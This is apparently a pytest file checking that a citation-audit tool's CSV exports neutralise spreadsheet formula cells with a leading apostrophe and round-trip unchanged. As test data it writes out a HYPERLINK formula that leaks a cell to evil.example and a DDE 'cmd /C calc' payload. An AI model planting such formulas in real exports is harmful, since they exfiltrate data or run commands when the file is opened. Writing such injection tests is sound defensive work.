"""CSV a spreadsheet opens as data: cells that would run as formulas are written with a leading apostrophe by every
CSV writer (``export --format csv``, ``judgements export``, ``answers list --format csv`` and the rest), numbers
stay numbers, and a judgements file exported this way imports back unchanged."""

from __future__ import annotations

import ast
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.builders import answer, claim, document, edge
from typer.testing import Result

from citeaudit.report.csv_cells import SafeDictWriter, SafeWriter, spreadsheet_safe, spreadsheet_text
from conftest import REPO

Cli = Callable[..., Result]

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (LEAK, "'" + LEAK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # an apostrophe already there is kept: the cell reads back as it was
        # numbers stay numbers, as text or as numbers
        ("-3", "-3"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        (-3, -3),
        (-0.25, -0.25),
        # anything else is untouched
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_cells_are_neutralised_and_numbers_kept(value: object, cell: object) -> None:
    assert spreadsheet_safe(value) == cell


@given(st.text(max_size=20))
def test_every_text_reads_back_as_it_was_written(value: str) -> None:
    written = spreadsheet_safe(value)
    assert isinstance(written, str)
    assert spreadsheet_text(written) == value
    assert written[:1] not in "=+-@\t\r" or written.lstrip("+-")[:1] in "0123456789."


def test_both_writers_neutralise_every_cell() -> None:
    buffer = io.StringIO()
    SafeWriter(buffer, lineterminator="\n").writerows([["=1", 2], ["ok", "@x"]])
    dict_buffer = io.StringIO()
    writer = SafeDictWriter(dict_buffer, fieldnames=["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"a": "=1", "b": 2}, {"a": "ok", "b": "@x"}])
    assert buffer.getvalue() == "'=1,2\nok,'@x\n"
    assert dict_buffer.getvalue() == "a,b\n'=1,2\nok,'@x\n"


# -- through the commands ----------------------------------------------------------------------------------------


@pytest.fixture
def hostile_db(cli: Cli, tmp_path: Path) -> Path:
    """An audit whose answer id, platform, answer text, claim text and passage begin with a formula."""
    text = LEAK + " The AX220 has a 20 L tank."
    doc = document(
        [{**answer("@a1", platform="-p1"), "text": text}],
        [{**claim("c1", "@a1"), "text": "-1+1 tank", "start": 0, "end": 10}],
        [edge("c1", "https://brand.com/ax220", "supported", passage="@SUM(1)", reviewer="li")],
    )
    path = tmp_path / "hostile.audit.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    db = tmp_path / "audit.db"
    result = cli("ingest", path, "--db", db)
    assert result.exit_code == 0, result.stderr
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_export_csv_neutralises_answer_claim_and_passage_cells(cli: Cli, hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "tables"
    result = cli("export", "--db", hostile_db, "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.stderr
    cells = [cell for path in sorted(out.glob("*.csv")) for cell in _cells(path.read_text(encoding="utf-8"))]
    assert "'" + LEAK + " The AX220 has a 20 L tank." in cells
    assert "'-1+1 tank" in cells
    assert "'@SUM(1)" in cells
    # no cell begins with a formula character unless it is a number
    assert [c for c in cells if c and c[0] in "=+-@" and not c.lstrip("+-").replace(".", "", 1).isdigit()] == []


def test_answers_list_csv_neutralises_the_text(cli: Cli, hostile_db: Path) -> None:
    result = cli("answers", "list", "--db", hostile_db, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    assert {"'@a1", "'-p1"} <= set(cells)


def test_judgements_export_is_safe_and_imports_back_unchanged(cli: Cli, tmp_path: Path) -> None:
    from review_support import add_account, make_db

    db = make_db(tmp_path / "labels.db")
    add_account(db, "ann", "reviewer")
    sheet = tmp_path / "ann.jsonl"
    row = {"claim_id": "c1", "source": "https://shop.example/ax", "label": "irrelevant", "passage": LEAK}
    sheet.write_text(json.dumps({**row, "reasoning": "@ads"}) + "\n", encoding="utf-8")
    assert cli("judgements", "import", sheet, "--reviewer", "ann", "--db", db).exit_code == 0
    exported = cli("judgements", "export", "--db", db, "--reviewer", "ann")
    assert exported.exit_code == 0, exported.stderr
    (written,) = csv.DictReader(io.StringIO(exported.stdout))
    assert (written["passage"], written["reasoning"]) == ("'" + LEAK, "'@ads")
    # read back, the apostrophes are gone: the same passage and reasoning as imported
    from citeaudit.cli.judgements import read_rows

    back = tmp_path / "back.csv"
    back.write_text(exported.stdout, encoding="utf-8")
    (again,) = read_rows(back, "ann")
    assert (again.passage, again.reasoning) == (LEAK, "@ads")


def test_every_csv_writer_is_a_safe_one() -> None:
    package = REPO / "src" / "citeaudit"
    outside = []
    for path in sorted(package.rglob("*.py")):
        name = path.relative_to(package).as_posix()
        if name == "report/csv_cells.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                outside.append(f"{name}:{node.lineno} csv.{node.attr}")
    assert outside == []
